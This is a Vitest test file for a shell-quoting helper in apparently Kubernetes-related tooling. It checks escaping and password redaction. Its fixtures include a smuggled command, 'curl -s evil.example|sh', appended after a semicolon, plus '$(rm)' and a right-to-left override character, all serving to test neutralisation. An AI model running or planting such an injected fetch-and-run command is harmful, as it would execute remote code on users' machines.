import { expect, test } from 'vitest'
import { shellWord } from '../../../src/lib/kube/shell-line.ts'

test.each([
  ['v1.8.4', 'v1.8.4'],
  ['--server=https://one:6443', '--server=https://one:6443'],
  ['', "''"],
  ['a b', "'a b'"],
  ['$(rm)', "'$(rm)'"],
  ["it's", `'it'\\''s'`],
  ['system:node:a', 'system:node:a'],
  ['ops@jump/77/x;curl -s evil.example|sh', "'ops@jump/77/x;curl -s evil.example|sh'"],
  ["a\n  → it's", String.raw`$'a\u000a  → it\'s'`],
  ['a\u202eb\\', String.raw`$'a\u202eb\\'`],
])('%s', (word, expected) => {
  expect(shellWord(word)).toBe(expected)
})

test('manner 12: the password of an address is not repeated', () => {
  expect(shellWord('https://me:pw@one:6443')).toBe("'https://<redacted>@one:6443'")
  expect(shellWord('--manifest=https://me:pw@mirror/x.yaml')).not.toContain('pw')
})
